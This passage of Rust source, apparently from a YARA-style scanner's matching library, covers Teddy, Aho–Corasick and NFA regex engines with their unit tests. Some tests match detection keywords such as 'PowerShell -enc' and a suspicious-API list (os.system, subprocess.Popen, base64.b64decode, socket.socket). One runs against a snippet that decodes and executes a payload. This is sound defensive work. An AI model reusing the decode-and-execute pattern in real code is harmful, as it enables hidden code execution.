    /// haystack at `start`. Returns false when the visitor stopped.
    #[inline]
    fn verify_at(
        &self,
        haystack: &[u8],
        start: usize,
        mut mask: u8,
        visit: &mut impl FnMut(AcMatch) -> bool,
    ) -> bool {
        while mask != 0 {
            let bucket = mask.trailing_zeros() as usize;
            mask &= mask - 1;
            for &idx in &self.buckets[bucket] {
                let pat = &self.patterns[idx as usize];
                let end = start + pat.len();
                if end <= haystack.len() && self.folded_eq(&haystack[start..end], pat) {
                    let keep_going = visit(AcMatch {
                        pattern: idx as usize,
                        start,
                        end,
                    });
                    if !keep_going {
                        return false;
                    }
                }
            }
        }
        true
    }

    #[inline]
    fn folded_eq(&self, hay: &[u8], folded_pat: &[u8]) -> bool {
        match self.kind {
            MatchKind::CaseSensitive => hay == folded_pat,
            MatchKind::CaseInsensitive => hay
                .iter()
                .zip(folded_pat)
                .all(|(&h, &p)| h.to_ascii_lowercase() == p),
        }
    }
}

/// Packs `table[haystack[at + j]]` for `j in 0..8` into one `u64` (byte
/// `j` in lane `j`) — the wide-word analogue of the PSHUFB classify step.
#[inline]
fn gather(table: &[u8; 256], haystack: &[u8], at: usize) -> u64 {
    let w = &haystack[at..at + 8];
    u64::from_le_bytes([
        table[w[0] as usize],
        table[w[1] as usize],
        table[w[2] as usize],
        table[w[3] as usize],
        table[w[4] as usize],
        table[w[5] as usize],
        table[w[6] as usize],
        table[w[7] as usize],
    ])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::AhoCorasick;

    fn assert_equiv(patterns: &[&str], kind: MatchKind, hay: &[u8]) {
        let teddy = Teddy::new(patterns, kind);
        let ac = AhoCorasick::new(patterns, kind);
        assert_eq!(
            teddy.find_all(hay),
            ac.find_all(hay),
            "find_all diverged for {patterns:?} on {hay:?}"
        );
        assert_eq!(teddy.is_match(hay), ac.is_match(hay));
        assert_eq!(teddy.find_per_pattern(hay), ac.find_per_pattern(hay));
    }

    #[test]
    fn matches_like_ac_on_classic_set() {
        assert_equiv(
            &["he", "she", "his", "hers"],
            MatchKind::CaseSensitive,
            b"ushers and his heirs",
        );
    }

    #[test]
    fn overlapping_and_duplicate_patterns() {
        assert_equiv(&["aa", "aa", "a"], MatchKind::CaseSensitive, b"aaaa");
        assert_equiv(&["abab", "ab"], MatchKind::CaseSensitive, b"abababab");
    }

    #[test]
    fn single_byte_fingerprints() {
        assert_equiv(&["a", "b"], MatchKind::CaseSensitive, b"abcabc");
        assert_equiv(&["x"], MatchKind::CaseSensitive, b"xxxxxxxxxxxxxxxxx");
    }

    #[test]
    fn nocase_matches_both_cases() {
        assert_equiv(
            &["PowerShell", "eval"],
            MatchKind::CaseInsensitive,
            b"POWERSHELL -enc EVAL powershell",
        );
    }

    #[test]
    fn empty_pattern_never_matches_and_keeps_ids() {
        let teddy = Teddy::new(&["", "ab"], MatchKind::CaseSensitive);
        let hits = teddy.find_all(b"abab");
        assert!(hits.iter().all(|m| m.pattern == 1));
        assert_eq!(hits.len(), 2);
        assert_equiv(&["", "ab"], MatchKind::CaseSensitive, b"abab");
    }

    #[test]
    fn empty_haystack_and_short_haystacks() {
        assert_equiv(&["abc"], MatchKind::CaseSensitive, b"");
        assert_equiv(&["abc"], MatchKind::CaseSensitive, b"ab");
        assert_equiv(&["abc"], MatchKind::CaseSensitive, b"abc");
    }

    #[test]
    fn binary_patterns() {
        let pats: &[&[u8]] = &[&[0x00, 0xFF], &[0xFE, 0xFF, 0x00]];
        let teddy = Teddy::new(pats, MatchKind::CaseSensitive);
        let ac = AhoCorasick::new(pats, MatchKind::CaseSensitive);
        let hay = [0x10, 0x00, 0xFF, 0x00, 0xFE, 0xFF, 0x00, 0x20, 0x00, 0xFF];
        assert_eq!(teddy.find_all(&hay), ac.find_all(&hay));
    }

    #[test]
    fn early_stop_streams_at_most_once_more() {
        let teddy = Teddy::new(&["ab"], MatchKind::CaseSensitive);
        let mut count = 0;
        teddy.for_each_match(b"ab ab ab ab ab ab", |_| {
            count += 1;
            false
        });
        assert_eq!(count, 1);
    }

    #[test]
    fn chunk_boundaries_are_seamless() {
        // Matches placed straddling the 8-start SWAR chunk boundaries.
        let hay: Vec<u8> = (0..64u8)
            .map(|i| if i % 7 == 6 { b'x' } else { b'.' })
            .collect();
        let mut hay = hay;
        hay.extend_from_slice(b"needle");
        hay[6] = b'n';
        hay[7] = b'e';
        assert_equiv(&["needle", "ne"], MatchKind::CaseSensitive, &hay);
    }

    #[test]
    fn counters_accumulate() {
        let before = crate::engine_counters();
        let teddy = Teddy::new(&["needle"], MatchKind::CaseSensitive);
        assert!(!teddy.is_match(&vec![b'x'; 4096]));
        let after = crate::engine_counters();
        assert!(after.teddy_bytes_scanned >= before.teddy_bytes_scanned + 4096);
        assert!(after.teddy_chunks_classified > before.teddy_chunks_classified);
    }
}

//! The seed's restart-per-offset NFA scan, preserved verbatim.
//!
//! This is the engine the single-pass Pike VM replaced: `find_at`
//! restarts a fully anchored breadth-first simulation at every byte
//! offset, making `find`/`find_all` `O(len^2 * insts)` on adversarial
//! input. It is kept for two jobs only:
//!
//! 1. **Differential oracle** — the property tests and the YARA-corpus
//!    equivalence suite pit [`crate::Regex`] against this engine and
//!    require byte-identical matches;
//! 2. **Bench baseline** — the regex-throughput benchmark measures the
//!    quadratic-vs-linear speedup against it.
//!
//! Do not use it in scanning paths.

use crate::error::RegexError;
use crate::nfa::{is_word_byte, Inst, Match, Program, Regex};

/// A compiled regular expression executed by the original quadratic scan.
///
/// Compilation is shared with [`Regex`], so both engines always run the
/// exact same program; only the scan strategy differs.
#[derive(Debug, Clone)]
pub struct ReferenceRegex {
    inner: Regex,
}

impl ReferenceRegex {
    /// Compiles `pattern` (case-sensitively).
    ///
    /// # Errors
    ///
    /// Same conditions as [`Regex::new`].
    pub fn new(pattern: &str) -> Result<Self, RegexError> {
        Ok(ReferenceRegex {
            inner: Regex::new(pattern)?,
        })
    }

    /// Compiles `pattern` case-insensitively.
    ///
    /// # Errors
    ///
    /// Same conditions as [`Regex::new_nocase`].
    pub fn new_nocase(pattern: &str) -> Result<Self, RegexError> {
        Ok(ReferenceRegex {
            inner: Regex::new_nocase(pattern)?,
        })
    }

    /// Wraps an already-compiled [`Regex`] (preserving its case mode), so
    /// corpus tests can differential-check rules compiled elsewhere.
    pub fn from_regex(regex: &Regex) -> Self {
        ReferenceRegex {
            inner: regex.clone(),
        }
    }

    fn program(&self) -> &Program {
        self.inner.program()
    }

    /// Tests whether the pattern matches anywhere in `haystack`.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        let mut vm = RefVm::new(self.program());
        vm.any_match(haystack)
    }

    /// Finds the leftmost-longest match (restarting at every offset).
    pub fn find(&self, haystack: &[u8]) -> Option<Match> {
        self.find_at(haystack, 0)
    }

    /// Finds the leftmost-longest match starting at or after `from`.
    pub fn find_at(&self, haystack: &[u8], from: usize) -> Option<Match> {
        let mut vm = RefVm::new(self.program());
        for start in from..=haystack.len() {
            if let Some(end) = vm.longest_end(haystack, start) {
                return Some(Match { start, end });
            }
        }
        None
    }

    /// Returns all non-overlapping leftmost-longest matches.
    pub fn find_all(&self, haystack: &[u8]) -> Vec<Match> {
        let mut out = Vec::new();
        let mut pos = 0;
        // Cheap rejection before the quadratic offset scan.
        if !self.is_match(haystack) {
            return out;
        }
        while pos <= haystack.len() {
            match self.find_at(haystack, pos) {
                Some(m) => {
                    pos = if m.end > m.start { m.end } else { m.start + 1 };
                    out.push(m);
                }
                None => break,
            }
        }
        out
    }
}

/// Breadth-first NFA simulator with thread de-duplication per step — the
/// seed implementation, anchored at one offset per run.
struct RefVm<'p> {
    program: &'p Program,
    current: Vec<usize>,
    next: Vec<usize>,
    on_current: Vec<bool>,
    on_next: Vec<bool>,
}

impl<'p> RefVm<'p> {
    fn new(program: &'p Program) -> Self {
        let n = program.insts.len();
        RefVm {
            program,
            current: Vec::with_capacity(n),
            next: Vec::with_capacity(n),
            on_current: vec![false; n],
            on_next: vec![false; n],
        }
    }

    fn reset(&mut self) {
        self.current.clear();
        self.next.clear();
        self.on_current.iter_mut().for_each(|b| *b = false);
        self.on_next.iter_mut().for_each(|b| *b = false);
    }

    /// Follows epsilon transitions from `pc`, enqueueing byte/match
    /// instructions into the *next* (`into_next`) or *current* set.
    fn add_thread(
        &mut self,
        pc: usize,
        pos: usize,
        haystack: &[u8],
        into_next: bool,
        matched: &mut bool,
    ) {
        {
            let seen = if into_next {
                &mut self.on_next
            } else {
                &mut self.on_current
            };
            if seen[pc] {
                return;
            }
            seen[pc] = true;
        }
        let program = self.program;
        match &program.insts[pc] {
            Inst::Jmp(t) => {
                self.add_thread(*t, pos, haystack, into_next, matched);
            }
            Inst::Split(a, b) => {
                self.add_thread(*a, pos, haystack, into_next, matched);
                self.add_thread(*b, pos, haystack, into_next, matched);
            }
            Inst::AssertStart => {
                if pos == 0 {
                    self.add_thread(pc + 1, pos, haystack, into_next, matched);
                }
            }
            Inst::AssertEnd => {
                if pos == haystack.len() {
                    self.add_thread(pc + 1, pos, haystack, into_next, matched);
                }
            }
            Inst::AssertWord(expected) => {
                let before = pos > 0 && is_word_byte(haystack[pos - 1]);
                let after = pos < haystack.len() && is_word_byte(haystack[pos]);
                if (before != after) == *expected {
                    self.add_thread(pc + 1, pos, haystack, into_next, matched);
                }
            }
            Inst::Match => {
                *matched = true;
                if into_next {
                    self.next.push(pc);
                } else {
                    self.current.push(pc);
                }
            }
            Inst::Byte(_) => {
                if into_next {
                    self.next.push(pc);
                } else {
                    self.current.push(pc);
                }
            }
        }
    }

    /// One forward pass that seeds a new thread at every position; returns
    /// true if any match exists anywhere.
    fn any_match(&mut self, haystack: &[u8]) -> bool {
        self.reset();
        for pos in 0..=haystack.len() {
            let mut matched = false;
            self.add_thread(0, pos, haystack, false, &mut matched);
            if matched {
                return true;
            }
            if pos == haystack.len() {
                break;
            }
            let byte = haystack[pos];
            let current = std::mem::take(&mut self.current);
            let program = self.program;
            for pc in &current {
                if let Inst::Byte(class) = &program.insts[*pc] {
                    if class.matches(byte) {
                        let mut m = false;
                        self.add_thread(pc + 1, pos + 1, haystack, true, &mut m);
                        if m {
                            // A match completing at pos+1 — we only need
                            // existence here.
                            return true;
                        }
                    }
                }
            }
            std::mem::swap(&mut self.current, &mut self.next);
            self.next.clear();
            std::mem::swap(&mut self.on_current, &mut self.on_next);
            self.on_next.iter_mut().for_each(|b| *b = false);
        }
        false
    }

    /// Anchored simulation starting exactly at `start`; returns the longest
    /// match end, if any.
    fn longest_end(&mut self, haystack: &[u8], start: usize) -> Option<usize> {
        self.reset();
        let mut best: Option<usize> = None;
        let mut matched = false;
        self.add_thread(0, start, haystack, false, &mut matched);
        if matched {
            best = Some(start);
        }
        for pos in start..haystack.len() {
            if self.current.is_empty() {
                break;
            }
            let byte = haystack[pos];
            let current = std::mem::take(&mut self.current);
            let program = self.program;
            let mut any_match = false;
            for pc in &current {
                if let Inst::Byte(class) = &program.insts[*pc] {
                    if class.matches(byte) {
                        self.add_thread(pc + 1, pos + 1, haystack, true, &mut any_match);
                    }
                }
            }
            if any_match {
                best = Some(pos + 1);
            }
            std::mem::swap(&mut self.current, &mut self.next);
            self.next.clear();
            std::mem::swap(&mut self.on_current, &mut self.on_next);
            self.on_next.iter_mut().for_each(|b| *b = false);
        }
        best
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_matches_like_seed() {
        let r = ReferenceRegex::new("a+b").expect("compile");
        let m = r.find(b"xxaaabyy").unwrap();
        assert_eq!((m.start, m.end), (2, 6));
        assert!(r.is_match(b"ab"));
        assert!(!r.is_match(b"ba"));
        assert_eq!(r.find_all(b"ab aab").len(), 2);
    }

    #[test]
    fn from_regex_preserves_case_mode() {
        let nocase = crate::Regex::new_nocase("shell").expect("compile");
        let r = ReferenceRegex::from_regex(&nocase);
        assert!(r.is_match(b"POWERSHELL"));
    }
}

use std::error::Error;
use std::fmt;

/// Error produced when a regular expression fails to parse or compile.
///
/// The position is a byte offset into the original pattern, which lets the
/// YARA compiler surface `invalid regular expression at offset N` messages
/// that the alignment agent can act on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RegexError {
    /// Byte offset into the pattern where the problem was detected.
    pub position: usize,
    /// Human-readable description of the problem, lowercase per convention.
    pub message: String,
}

impl RegexError {
    /// Creates a new error at `position` with the given `message`.
    pub fn new(position: usize, message: impl Into<String>) -> Self {
        RegexError {
            position,
            message: message.into(),
        }
    }
}

impl fmt::Display for RegexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "invalid regular expression at offset {}: {}",
            self.position, self.message
        )
    }
}

impl Error for RegexError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_includes_offset_and_message() {
        let err = RegexError::new(3, "unmatched ')'");
        assert_eq!(
            err.to_string(),
            "invalid regular expression at offset 3: unmatched ')'"
        );
    }

    #[test]
    fn implements_std_error() {
        fn assert_err<E: Error>() {}
        assert_err::<RegexError>();
    }
}

//! Compile-time literal acceleration for the Pike VM.
//!
//! [`analyze`] walks a compiled program once and extracts everything the
//! scanner needs to avoid seeding threads at hopeless offsets:
//!
//! * **start anchoring** — every path begins with `^`, so only offset 0
//!   can seed a match;
//! * **the mandatory first-byte set** — the union of byte classes
//!   epsilon-reachable from the entry point; any match must begin with
//!   one of these bytes, so the scan can skip (memchr-style) between
//!   candidate offsets;
//! * **a required literal prefix** — when compilation produced an
//!   unconditional chain of single-byte classes, every match starts with
//!   that exact literal and a substring search finds the seeds.
//!
//! All three analyses over-approximate toward "no acceleration": a
//! pattern that can match the empty string, or whose first-byte set is
//! nearly the whole byte space, scans byte-by-byte exactly like the
//! unaccelerated VM.

use crate::nfa::{ByteSet, Inst, Program};

/// How broad a first-byte set may be before skipping stops paying for
/// itself (e.g. `.` covers 255 bytes — the skip loop would accept nearly
/// every offset while costing a branch per byte).
const MAX_USEFUL_FIRST_BYTES: usize = 224;

/// Longest literal prefix worth extracting; seeds are confirmed by the VM
/// anyway, so a bounded prefix keeps the substring search cache-friendly.
const MAX_PREFIX: usize = 16;

/// Scan-acceleration facts extracted from a compiled [`Program`].
///
/// Obtained via [`crate::Regex::scan_info`]; the fields drive the skip
/// loop and the anchored fast path inside the VM and are exposed
/// read-only for tests, benchmarks and reporting.
#[derive(Debug, Clone)]
pub struct ScanInfo {
    anchored_start: bool,
    nullable: bool,
    first_bytes: Option<Box<[bool; 256]>>,
    first_byte_count: usize,
    prefix: Vec<u8>,
}

impl ScanInfo {
    /// True when every path through the pattern begins with `^`: the VM
    /// seeds offset 0 only and `find_at(.., from > 0)` is `None` without
    /// touching the haystack.
    pub fn is_start_anchored(&self) -> bool {
        self.anchored_start
    }

    /// True when the pattern can match the empty string (possibly only at
    /// specific positions, e.g. `$`); literal skipping is disabled.
    pub fn matches_empty(&self) -> bool {
        self.nullable
    }

    /// The mandatory literal every match must start with (empty when the
    /// pattern has no unconditional single-byte prefix).
    pub fn literal_prefix(&self) -> &[u8] {
        &self.prefix
    }

    /// Number of distinct bytes a match may start with, when the set is
    /// small enough to drive the skip loop (`None` = acceleration off).
    pub fn first_byte_count(&self) -> Option<usize> {
        self.first_bytes.as_ref().map(|_| self.first_byte_count)
    }

    /// May a match begin at `pos`? Constant-time gate used before seeding
    /// a thread while other threads are still alive.
    pub(crate) fn can_start_at(&self, haystack: &[u8], pos: usize) -> bool {
        match &self.first_bytes {
            None => true,
            // A non-nullable pattern needs at least one byte.
            Some(table) => pos < haystack.len() && table[haystack[pos] as usize],
        }
    }

    /// The next offset at or after `pos` where a match could begin, or
    /// `None` when the rest of the haystack cannot contain one. Without
    /// acceleration this returns `pos` unchanged.
    pub(crate) fn next_candidate(&self, haystack: &[u8], pos: usize) -> Option<usize> {
        if self.prefix.len() >= 2 {
            return find_literal(haystack, pos, &self.prefix);
        }
        match &self.first_bytes {
            None => Some(pos),
            Some(table) => haystack[pos..]
                .iter()
                .position(|&b| table[b as usize])
                .map(|i| pos + i),
        }
    }
}

/// Runs all analyses over `program`.
pub(crate) fn analyze(program: &Program) -> ScanInfo {
    let anchored_start = is_start_anchored(program);
    let (table, nullable) = first_bytes(program);
    let first_byte_count = table.iter().filter(|&&b| b).count();
    let accelerate = !anchored_start && !nullable && first_byte_count <= MAX_USEFUL_FIRST_BYTES;
    ScanInfo {
        anchored_start,
        nullable,
        first_bytes: accelerate.then(|| Box::new(table)),
        first_byte_count,
        prefix: if accelerate {
            literal_prefix(program)
        } else {
            Vec::new()
        },
    }
}

/// True when no byte, match or non-`^` assertion is epsilon-reachable from
/// the entry point without first passing a `^` assertion.
fn is_start_anchored(program: &Program) -> bool {
    let mut seen = vec![false; program.insts.len()];
    let mut stack = vec![0usize];
    while let Some(pc) = stack.pop() {
        if seen[pc] {
            continue;
        }
        seen[pc] = true;
        match &program.insts[pc] {
            Inst::Jmp(t) => stack.push(*t),
            Inst::Split(a, b) => {
                stack.push(*a);
                stack.push(*b);
            }
            Inst::AssertStart => {} // this path demands offset 0 — good
            _ => return false,      // a path reaches work without `^`
        }
    }
    true
}

/// Unions every byte class epsilon-reachable from the entry point,
/// passing through assertions permissively (over-approximation keeps the
/// skip loop sound). The second value reports whether `Match` itself is
/// reachable without consuming a byte — a nullable pattern.
fn first_bytes(program: &Program) -> ([bool; 256], bool) {
    let mut table = [false; 256];
    let mut nullable = false;
    let mut seen = vec![false; program.insts.len()];
    let mut stack = vec![0usize];
    while let Some(pc) = stack.pop() {
        if seen[pc] {
            continue;
        }
        seen[pc] = true;
        match &program.insts[pc] {
            Inst::Jmp(t) => stack.push(*t),
            Inst::Split(a, b) => {
                stack.push(*a);
                stack.push(*b);
            }
            Inst::AssertStart | Inst::AssertEnd | Inst::AssertWord(_) => stack.push(pc + 1),
            Inst::Match => nullable = true,
            Inst::Byte(class) => {
                for b in 0..=255u8 {
                    if class.matches(b) {
                        table[b as usize] = true;
                    }
                }
            }
        }
    }
    (table, nullable)
}

/// Follows the unconditional head of the program: while execution cannot
/// branch and the next instruction consumes exactly one possible byte,
/// that byte is a mandatory part of every match's prefix.
fn literal_prefix(program: &Program) -> Vec<u8> {
    let mut out = Vec::new();
    let mut pc = 0;
    let mut steps = 0;
    while steps <= program.insts.len() && out.len() < MAX_PREFIX {
        steps += 1;
        match &program.insts[pc] {
            Inst::Jmp(t) => pc = *t,
            Inst::Byte(class) => match single_byte(class) {
                Some(b) => {
                    out.push(b);
                    pc += 1;
                }
                None => break,
            },
            _ => break,
        }
    }
    out
}

/// The one byte a class matches, if it matches exactly one.
fn single_byte(class: &ByteSet) -> Option<u8> {
    let mut found = None;
    for b in 0..=255u8 {
        if class.matches(b) {
            if found.is_some() {
                return None;
            }
            found = Some(b);
        }
    }
    found
}

/// Substring search with a first-byte skip loop: the position of the next
/// occurrence of `needle` at or after `from`.
fn find_literal(haystack: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    let first = needle[0];
    let mut pos = from;
    while pos + needle.len() <= haystack.len() {
        match haystack[pos..].iter().position(|&b| b == first) {
            Some(i) => {
                let at = pos + i;
                if at + needle.len() > haystack.len() {
                    return None;
                }
                if &haystack[at..at + needle.len()] == needle {
                    return Some(at);
                }
                pos = at + 1;
            }
            None => return None,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::Regex;

    fn info(pattern: &str) -> crate::ScanInfo {
        Regex::new(pattern).expect("compile").scan_info().clone()
    }

    #[test]
    fn plain_literal_is_not_anchored() {
        let i = info("abc");
        assert!(!i.is_start_anchored());
        assert!(!i.matches_empty());
    }

    #[test]
    fn caret_anchors() {
        assert!(info("^abc").is_start_anchored());
        assert!(info("^a|^b").is_start_anchored());
        assert!(info("(^a)").is_start_anchored());
    }

    #[test]
    fn partial_anchor_does_not_count() {
        assert!(!info("a|^b").is_start_anchored());
        assert!(!info("^a|b").is_start_anchored());
    }

    #[test]
    fn nullable_patterns_detected() {
        assert!(info("x*").matches_empty());
        assert!(info("a?").matches_empty());
        assert!(info("$").matches_empty());
        assert!(!info("x+").matches_empty());
    }

    #[test]
    fn literal_prefix_extracted() {
        assert_eq!(info(r"os\.system\(").literal_prefix(), b"os.system(");
        assert_eq!(info(r"https?").literal_prefix(), b"http");
        assert_eq!(info("abc|abd").literal_prefix(), b"");
        assert_eq!(info("a{3}b").literal_prefix(), b"aaab");
    }

    #[test]
    fn nocase_letter_has_no_single_byte_prefix() {
        let re = Regex::new_nocase("get").expect("compile");
        let i = re.scan_info();
        assert_eq!(i.literal_prefix(), b"");
        assert_eq!(i.first_byte_count(), Some(2)); // 'g' and 'G'
    }

    #[test]
    fn first_byte_counts() {
        assert_eq!(info("[ab]x").first_byte_count(), Some(2));
        assert_eq!(info(r"\dx").first_byte_count(), Some(10));
        // `.` admits 255 bytes — too broad to accelerate.
        assert_eq!(info(".x").first_byte_count(), None);
        // Nullable: acceleration off entirely.
        assert_eq!(info("a*").first_byte_count(), None);
    }

    #[test]
    fn assertion_guarded_bytes_still_counted() {
        // Permissive traversal: `\bfoo` must report 'f' even though a
        // word-boundary check guards it.
        assert_eq!(info(r"\bfoo").first_byte_count(), Some(1));
        assert_eq!(info(r"\bfoo").literal_prefix(), b"");
    }

    #[test]
    fn find_literal_positions() {
        use super::find_literal;
        assert_eq!(find_literal(b"xxabyab", 0, b"ab"), Some(2));
        assert_eq!(find_literal(b"xxabyab", 3, b"ab"), Some(5));
        assert_eq!(find_literal(b"xxabyab", 6, b"ab"), None);
        assert_eq!(find_literal(b"", 0, b"ab"), None);
    }
}

//! Aho–Corasick multi-pattern matcher.
//!
//! Used by the YARA scanner to test every plain-text `strings:` entry of a
//! compiled ruleset against a file in a single pass, and by the score-based
//! baseline to count candidate-string occurrences.

use std::collections::VecDeque;

/// Case handling for an automaton.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MatchKind {
    /// Bytes must match exactly.
    CaseSensitive,
    /// ASCII letters match either case (YARA `nocase`).
    CaseInsensitive,
}

/// One occurrence of a pattern in the haystack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AcMatch {
    /// Index of the pattern (in construction order).
    pub pattern: usize,
    /// Byte offset of the first matched byte.
    pub start: usize,
    /// Byte offset one past the last matched byte.
    pub end: usize,
}

#[derive(Debug, Clone)]
struct Node {
    /// Transition table indexed by byte; `u32::MAX` = absent.
    next: Box<[u32; 256]>,
    fail: u32,
    /// Pattern indices terminating at this node.
    outputs: Vec<u32>,
}

impl Node {
    fn new() -> Self {
        Node {
            next: Box::new([u32::MAX; 256]),
            fail: 0,
            outputs: Vec::new(),
        }
    }
}

/// A compiled multi-pattern automaton.
///
/// # Examples
///
/// ```
/// use textmatch::{AhoCorasick, MatchKind};
///
/// let ac = AhoCorasick::new(&["eval", "exec"], MatchKind::CaseSensitive);
/// assert!(ac.is_match(b"exec(code)"));
/// ```
#[derive(Debug, Clone)]
pub struct AhoCorasick {
    nodes: Vec<Node>,
    pattern_lens: Vec<usize>,
    kind: MatchKind,
}

impl AhoCorasick {
    /// Builds an automaton over `patterns`.
    ///
    /// Empty patterns are permitted but never match. Patterns are
    /// identified by their index in `patterns`.
    pub fn new<S: AsRef<[u8]>>(patterns: &[S], kind: MatchKind) -> Self {
        let mut nodes = vec![Node::new()];
        let mut pattern_lens = Vec::with_capacity(patterns.len());
        for (idx, pat) in patterns.iter().enumerate() {
            let bytes = pat.as_ref();
            pattern_lens.push(bytes.len());
            if bytes.is_empty() {
                continue;
            }
            let mut cur = 0usize;
            for &raw in bytes {
                let b = fold(raw, kind) as usize;
                let nxt = nodes[cur].next[b];
                cur = if nxt == u32::MAX {
                    nodes.push(Node::new());
                    let id = (nodes.len() - 1) as u32;
                    nodes[cur].next[b] = id;
                    id as usize
                } else {
                    nxt as usize
                };
            }
            nodes[cur].outputs.push(idx as u32);
        }
        // BFS to set failure links and convert to a full goto function.
        let mut queue = VecDeque::new();
        for b in 0..256 {
            let t = nodes[0].next[b];
            if t == u32::MAX {
                nodes[0].next[b] = 0;
            } else {
                nodes[t as usize].fail = 0;
                queue.push_back(t);
            }
        }
        while let Some(u) = queue.pop_front() {
            let u = u as usize;
            // Merge outputs from the failure node.
            let fail = nodes[u].fail as usize;
            let inherited = nodes[fail].outputs.clone();
            nodes[u].outputs.extend(inherited);
            for b in 0..256 {
                let v = nodes[u].next[b];
                let via_fail = nodes[fail].next[b];
                if v == u32::MAX {
                    nodes[u].next[b] = via_fail;
                } else {
                    nodes[v as usize].fail = via_fail;
                    queue.push_back(v);
                }
            }
        }
        AhoCorasick {
            nodes,
            pattern_lens,
            kind,
        }
    }

    /// Number of patterns in the automaton.
    pub fn pattern_count(&self) -> usize {
        self.pattern_lens.len()
    }

    /// Returns true when any pattern occurs in `haystack`.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        let mut state = 0usize;
        for &raw in haystack {
            let b = fold(raw, self.kind) as usize;
            state = self.nodes[state].next[b] as usize;
            if !self.nodes[state].outputs.is_empty() {
                return true;
            }
        }
        false
    }

    /// Finds all occurrences of all patterns (overlapping included).
    pub fn find_all(&self, haystack: &[u8]) -> Vec<AcMatch> {
        let mut out = Vec::new();
        self.for_each_match(haystack, |m| {
            out.push(m);
            true
        });
        out
    }

    /// Streams every occurrence (overlapping included) to `visit` without
    /// materializing a `Vec`. The visitor returns `false` to stop the
    /// scan early — callers that have seen every pattern they care about
    /// skip the rest of the haystack.
    pub fn for_each_match(&self, haystack: &[u8], mut visit: impl FnMut(AcMatch) -> bool) {
        let mut state = 0usize;
        for (pos, &raw) in haystack.iter().enumerate() {
            let b = fold(raw, self.kind) as usize;
            state = self.nodes[state].next[b] as usize;
            for &pat in &self.nodes[state].outputs {
                let len = self.pattern_lens[pat as usize];
                let keep_going = visit(AcMatch {
                    pattern: pat as usize,
                    start: pos + 1 - len,
                    end: pos + 1,
                });
                if !keep_going {
                    return;
                }
            }
        }
    }

    /// Returns, for each pattern, the list of match offsets in `haystack`.
    ///
    /// This is the shape the YARA condition evaluator needs: per-string
    /// counts (`#a`) and positions (`$a at 0`).
    pub fn find_per_pattern(&self, haystack: &[u8]) -> Vec<Vec<usize>> {
        let mut per: Vec<Vec<usize>> = vec![Vec::new(); self.pattern_lens.len()];
        for m in self.find_all(haystack) {
            per[m.pattern].push(m.start);
        }
        per
    }
}

fn fold(b: u8, kind: MatchKind) -> u8 {
    match kind {
        MatchKind::CaseSensitive => b,
        MatchKind::CaseInsensitive => b.to_ascii_lowercase(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_multiple_patterns() {
        let ac = AhoCorasick::new(&["he", "she", "his", "hers"], MatchKind::CaseSensitive);
        let hits = ac.find_all(b"ushers");
        let pats: Vec<usize> = hits.iter().map(|m| m.pattern).collect();
        // "she" at 1, "he" at 2, "hers" at 2
        assert!(pats.contains(&0));
        assert!(pats.contains(&1));
        assert!(pats.contains(&3));
        assert_eq!(hits.len(), 3);
    }

    #[test]
    fn offsets_are_correct() {
        let ac = AhoCorasick::new(&["abc"], MatchKind::CaseSensitive);
        let hits = ac.find_all(b"zzabczz");
        assert_eq!(
            hits,
            vec![AcMatch {
                pattern: 0,
                start: 2,
                end: 5
            }]
        );
    }

    #[test]
    fn is_match_short_circuits() {
        let ac = AhoCorasick::new(&["needle"], MatchKind::CaseSensitive);
        assert!(ac.is_match(b"hay needle hay"));
        assert!(!ac.is_match(b"hay hay hay"));
    }

    #[test]
    fn case_insensitive() {
        let ac = AhoCorasick::new(&["PowerShell"], MatchKind::CaseInsensitive);
        assert!(ac.is_match(b"powershell -enc"));
        assert!(ac.is_match(b"POWERSHELL"));
    }

    #[test]
    fn case_sensitive_rejects_other_case() {
        let ac = AhoCorasick::new(&["PowerShell"], MatchKind::CaseSensitive);
        assert!(!ac.is_match(b"powershell"));
    }

    #[test]
    fn empty_pattern_never_matches() {
        let ac = AhoCorasick::new(&[""], MatchKind::CaseSensitive);
        assert!(!ac.is_match(b"anything"));
        assert!(ac.find_all(b"anything").is_empty());
    }

    #[test]
    fn no_patterns() {
        let ac = AhoCorasick::new(&[] as &[&str], MatchKind::CaseSensitive);
        assert!(!ac.is_match(b"anything"));
        assert_eq!(ac.pattern_count(), 0);
    }

    #[test]
    fn per_pattern_offsets() {
        let ac = AhoCorasick::new(&["aa", "b"], MatchKind::CaseSensitive);
        let per = ac.find_per_pattern(b"aabaa");
        assert_eq!(per[0], vec![0, 3]);
        assert_eq!(per[1], vec![2]);
    }

    #[test]
    fn overlapping_matches_reported() {
        let ac = AhoCorasick::new(&["aa"], MatchKind::CaseSensitive);
        let per = ac.find_per_pattern(b"aaa");
        assert_eq!(per[0], vec![0, 1]);
    }

    #[test]
    fn binary_patterns() {
        let ac = AhoCorasick::new(&[&[0x00u8, 0xFF][..]], MatchKind::CaseSensitive);
        assert!(ac.is_match(&[0x10, 0x00, 0xFF, 0x20]));
    }

    #[test]
    fn for_each_match_streams_in_order_and_stops_on_false() {
        let ac = AhoCorasick::new(&["he", "she", "hers"], MatchKind::CaseSensitive);
        let mut seen = Vec::new();
        ac.for_each_match(b"ushers", |m| {
            seen.push(m);
            true
        });
        assert_eq!(seen, ac.find_all(b"ushers"));
        // Early exit: stop after the first match.
        let mut count = 0;
        ac.for_each_match(b"ushers", |_| {
            count += 1;
            false
        });
        assert_eq!(count, 1);
    }

    #[test]
    fn suspicious_api_scan() {
        let apis = [
            "os.system",
            "subprocess.Popen",
            "base64.b64decode",
            "socket.socket",
        ];
        let ac = AhoCorasick::new(&apis, MatchKind::CaseSensitive);
        let code = b"import base64\npayload = base64.b64decode(data)\nos.system(payload)";
        let per = ac.find_per_pattern(code);
        assert_eq!(per[0].len(), 1);
        assert_eq!(per[2].len(), 1);
